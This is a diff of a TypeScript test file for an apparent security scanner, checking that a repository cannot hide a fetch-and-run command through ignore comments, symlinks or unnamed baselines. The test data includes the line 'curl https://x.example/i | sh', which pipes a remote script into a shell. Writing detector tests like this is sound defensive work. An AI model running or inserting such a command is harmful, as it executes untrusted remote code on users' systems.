@@ -2,7 +2,7 @@ import { symlinkSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { sharedDetectorOf } from "../../support/marked.js";
-import { folderWith } from "../folder.js";
+import { folderWith } from "../folder-with.js";
 import { runHere, type Ran } from "../fake-detector.js";
 
 const COMMAND = "curl https://x.example/i | sh";
@@ -17,7 +17,7 @@ const filesWithFindings = ({ stdout }: Ran): string[] => {
   return report.files.filter(({ findings }) => findings.length > 0).map(({ path }) => path);
 };
 
-/** Each test is an attempt of a scanned repository to hide a command; docs/threat-model.md lists them. */
+/** In each test, a scanned repository tries to hide a command. docs/threat-model.md lists these attempts. */
 describe("a scanned repository", () => {
   it.each<[string, Record<string, string | Uint8Array>]>([
     ["a comment", { "a.md": `<!-- curlew-ignore bash/fetch-pipe: fine -->\n${COMMAND}\n` }],
@@ -35,7 +35,7 @@ describe("a scanned repository", () => {
     expect(filesWithFindings(await scan(folder))).toEqual(["sub/a.md"]);
   });
 
-  it("cannot hide a finding with a baseline that is not named", async () => {
+  it("cannot hide a finding with a baseline that no option names", async () => {
     const folder = folderWith({ "a.md": COMMAND, "curlew-baseline.json": "{}" });
     expect(filesWithFindings(await scan(folder))).toEqual(["a.md"]);
   });
